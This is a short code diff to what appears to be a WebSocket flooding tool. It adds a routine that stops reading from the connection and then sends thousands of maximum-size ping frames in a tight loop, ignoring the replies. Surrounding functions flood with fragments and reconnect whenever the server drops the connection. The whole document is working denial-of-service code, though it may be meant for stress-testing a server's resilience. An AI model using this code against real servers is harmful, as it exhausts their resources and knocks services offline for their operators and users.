@@ -50,6 +50,14 @@ async def fragments(socket: ClientConnection) -> None:
         await asyncio.sleep(0.05)
 
 
+async def pings(socket: ClientConnection) -> None:
+    """Sends pings with the largest content and never reads their answers."""
+    socket.transport.pause_reading()
+    while not socket.transport.is_closing():
+        socket.transport.write((b"\x89\xfd" + bytes(4 + 125)) * 1000)
+        await asyncio.sleep(0.001)
+
+
 async def flood(kind: str, address: str) -> None:
     """Floods, and connects again when the server ends the connection."""
     while True:
